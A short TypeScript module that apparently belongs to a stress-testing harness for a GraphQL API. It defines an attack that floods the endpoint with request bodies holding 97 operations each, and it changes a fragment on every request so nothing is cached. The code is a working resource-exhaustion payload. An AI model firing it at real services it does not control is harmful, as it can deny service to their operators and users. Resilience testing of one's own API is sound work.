import type { Attack } from './attack.js';
import { flood } from './client.js';

const names = Array.from({ length: 97 }, (_, index) => `O${index}`);
const fields = 'id name space { id name } champion { id fullName } reviewer { id fullName } targets { id name }';

/** Another fragment each time, so that no document is cached. */
const bodyOf = (number: number) =>
  JSON.stringify({
    query:
      names.map((name) => `query ${name} { ...F }`).join(' ') +
      ` fragment F on Query { a${number}: goals(first: 100) { nodes { ${fields} } } b: goals(first: 100) { nodes { id } } }`,
    operationName: 'O0',
  });

export const manyOperations: Attack = {
  title: 'one token sends documents of as many operations as are allowed, of which one runs',
  strike: (target) => flood(target, 30, (number) => ({ token: target.token, body: bodyOf(number) })),
};
